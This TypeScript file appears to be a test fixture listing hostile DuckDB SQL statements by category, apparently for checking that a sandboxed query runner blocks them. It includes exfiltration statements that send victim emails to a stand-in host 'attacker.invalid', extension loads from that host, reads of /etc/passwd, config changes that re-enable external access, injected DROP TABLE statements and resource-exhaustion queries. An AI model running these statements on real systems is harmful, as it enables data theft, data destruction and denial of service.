/** What a hostile statement is after. */
export type HostileKind = 'net' | 'extension' | 'file' | 'config' | 'ddl' | 'multi' | 'meta' | 'dos';

/** A statement that nobody should be able to run to their profit. */
export interface Hostile {
  readonly kind: HostileKind;
  readonly sql: string;
}

const HOST = 'attacker.invalid';

const LIST: Readonly<Record<HostileKind, readonly string[]>> = {
  net: [
    `SELECT * FROM read_csv('https://${HOST}/a.csv')`,
    `SELECT * FROM read_csv('http://${HOST}/a.csv', all_varchar=true)`,
    `SELECT * FROM 'https://${HOST}/a.csv'`,
    `SELECT * FROM read_csv(['input/victim.csv', 'https://${HOST}/b.csv'])`,
    `SELECT content FROM read_text('https://${HOST}/?steal')`,
    `SELECT content FROM read_blob('http://${HOST}/?steal')`,
    `SELECT * FROM sniff_csv('https://${HOST}/sniff.csv')`,
    `COPY victims TO 'https://${HOST}/up.csv'`,
    `COPY victims TO 's3://${HOST}/up.csv'`,
    `COPY (SELECT email FROM victims) TO 'http://${HOST}/up.csv' (FORMAT CSV)`,
    `ATTACH 'https://${HOST}/evil.db' AS evil`,
    `SET VARIABLE u = 'https://${HOST}/?' || (SELECT string_agg(email, ',') FROM victims); SELECT * FROM read_csv(getvariable('u'))`,
    `PREPARE p AS SELECT * FROM read_csv($1); EXECUTE p('https://${HOST}/prepared.csv')`,
    `CREATE VIEW leak AS SELECT * FROM read_csv('https://${HOST}/view.csv'); SELECT * FROM leak`,
    `CREATE MACRO leak_macro(u) AS TABLE SELECT * FROM read_csv(u); SELECT * FROM leak_macro('http://${HOST}/macro.csv')`,
  ],
  extension: [
    'INSTALL httpfs',
    'INSTALL h3 FROM community',
    'LOAD httpfs',
    'LOAD json',
    `LOAD 'https://${HOST}/evil.duckdb_extension.wasm'`,
    `INSTALL 'http://${HOST}/evil.duckdb_extension.wasm'`,
    `SET custom_extension_repository = 'https://${HOST}'; LOAD icu`,
    `SELECT '{"a": 1}'::JSON`,
    `SELECT * FROM read_parquet('input/victim.csv')`,
    `SELECT * FROM read_json('https://${HOST}/a.json')`,
    'SELECT current_date',
  ],
  file: [
    `SELECT * FROM glob('*')`,
    `SELECT * FROM read_csv('input/../secret.csv')`,
    `SELECT * FROM read_csv('/etc/passwd')`,
    `SELECT * FROM read_text('opfs://notebook.db')`,
    `ATTACH 'opfs://stolen.db' AS stolen`,
    `COPY victims TO 'input/victim.csv'`,
    `EXPORT DATABASE 'input/dump'`,
    `SELECT * FROM query_table('other.csv')`,
  ],
  config: [
    'SET enable_external_access = true',
    'SET lock_configuration = false',
    'RESET enable_external_access',
    `SET allowed_directories = ['']`,
    `SET allowed_paths = ['https://${HOST}/a.csv']`,
    'SET autoload_known_extensions = true',
    `SET memory_limit = '64GB'`,
    'CREATE SECRET s (TYPE s3)',
  ],
  ddl: [
    'DROP TABLE victims',
    'DELETE FROM victims',
    `UPDATE victims SET email = 'x'`,
    'CREATE OR REPLACE MACRO count(x) AS 1',
    'ALTER TABLE victims RENAME TO spoils',
    'CREATE OR REPLACE VIEW spoils AS SELECT 1',
  ],
  multi: [
    'SELECT 1; DROP TABLE victims; SELECT 2',
    `SELECT ';'; DROP TABLE victims`,
    'SELECT 1 /* ; */; DROP TABLE victims',
    'SELECT $$a;b$$; DROP TABLE victims',
    `SELECT 1; SELECT * FROM read_csv('https://${HOST}/second.csv')`,
  ],
  meta: [
    'SELECT * FROM duckdb_settings()',
    'SELECT * FROM duckdb_secrets()',
    'SELECT * FROM information_schema.columns',
    'PRAGMA enable_profiling',
  ],
  dos: [
    'WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT count(*) FROM r',
    'SELECT count(*) FROM range(1000000) a(x), range(1000000) b(y) WHERE (x * y) % 7 = 3',
    `SELECT repeat('a', 2000000000)`,
    `SELECT string_agg(repeat('x', 1000000), '') FROM range(20000)`,
    `SELECT ${'('.repeat(3_000)}1${')'.repeat(3_000)}`,
  ],
};

/** Hostile statements of every kind that is known to have leaked, escaped or hung somewhere. */
export const HOSTILE: readonly Hostile[] = Object.entries(LIST).flatMap(([kind, statements]) =>
  statements.map((sql) => ({ kind: kind as HostileKind, sql })),
);
